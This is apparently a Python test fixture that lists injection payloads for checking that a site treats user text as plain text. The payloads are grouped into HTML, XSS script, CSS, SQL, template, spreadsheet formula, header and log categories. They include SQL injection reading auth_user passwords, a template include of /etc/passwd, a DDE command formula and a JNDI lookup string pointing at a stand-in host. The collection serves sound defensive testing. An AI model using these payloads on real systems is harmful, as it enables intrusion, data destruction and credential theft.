"""Text that must stay text: what people may type, and what must never come of it."""

from dataclasses import dataclass

# An element or attribute of these names in a page, or a variable of this name in a
# browser, means that somebody's text was taken for more than text.
ELEMENT, ATTRIBUTE, VARIABLE = "x-payload", "x-payload", "payloadRan"
RUN = f"window.{VARIABLE}=1"


@dataclass(frozen=True)
class Payload:
    """One text, by what it would do if it were not a text."""

    kind: str
    text: str


PAYLOADS = tuple(
    Payload(kind, text)
    for kind, texts in {
        "html": (
            f"<{ELEMENT}>ตัวหนา</{ELEMENT}>",
            f"</textarea><{ELEMENT}>",
            f'"><{ELEMENT} a="',
            f"' {ATTRIBUTE}=1 b='",
            f'" {ATTRIBUTE}=1 b="',
            f"--><{ELEMENT}><!--",
            f"</title></style></script><{ELEMENT}>",
            f"<{ELEMENT.upper()}",
            f"&lt;{ELEMENT}&gt; &amp;amp; &#60;",
            f"]]><{ELEMENT}/>",
        ),
        "script": (
            f"<script>{RUN}</script>",
            f"<img src=x onerror={RUN} {ATTRIBUTE}>",
            f"<svg/onload={RUN} {ATTRIBUTE}>",
            f"<details open ontoggle={RUN} {ATTRIBUTE}>",
            f'<iframe srcdoc="<script>parent.{VARIABLE}=1</script>" {ATTRIBUTE}>',
            f"javascript:{RUN}",
            f"data:text/html,<script>{RUN}</script>",
            f'";{RUN};//',
            f"';{RUN};//",
            f"</script><script>{RUN}</script>",
            f"${{{RUN}}}",
            f"\u2028{RUN}\u2029",
            f'{{"a":"</script><script>{RUN}</script>"}}',
        ),
        "style": (
            f"<style {ATTRIBUTE}>*{{display:none}}</style>",
            f'" style="background:url(//example.invalid)" {ATTRIBUTE}="',
            "}*{display:none}",
            f"<link rel=stylesheet href=//example.invalid {ATTRIBUTE}>",
            f"<base href=//example.invalid {ATTRIBUTE}>",
        ),
        "sql": (
            "'; DROP TABLE assessments_agency; --",
            "' OR '1'='1",
            "1) UNION SELECT password FROM auth_user --",
            "%' AND 1=1 --",
            "\\'; SELECT pg_sleep(10); --",
            "100%_[a-z]%",
        ),
        "template": (
            "{{ request.user }}",
            "{% debug %}",
            "{{ 7|add:7 }}{# ไม่แสดง #}",
            "{% include '/etc/passwd' %}",
            "%(name)s %s %d %%",
            "{0.__class__} {agency}",
            "${7*7} #{7*7} <%= 7*7 %>",
        ),
        "formula": (
            '=HYPERLINK("http://example.invalid","ดู")',
            "=cmd|'/C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1,1)",
            "=1+1\n=1+1",
            '","=1+1","',
            ";=1+1;",
        ),
        "header": (
            "ก\r\nSet-Cookie: payload=1",
            "ก\nLocation: //example.invalid",
            "ก\nBcc: payload@example.invalid",
            'a"; filename="payload.exe',
            "%0d%0aX-Payload: 1",
        ),
        "log": (
            'ก\n{"at": "1970", "what": "forged"}',
            "${jndi:ldap://example.invalid/a}",
            "\u0e01\u200b\u0e02 \u00a0",
            "🙂🏳️‍🌈 ๛ ฺ",
        ),
    }.items()
    for text in texts
)
# What no text of the site may hold: refused with a sentence, never stored.
REFUSED = (
    Payload("log", "ก\x1b[31mแดง"),
    Payload("log", "ก\x00ข"),
    Payload("log", "ก\u202eข"),
)
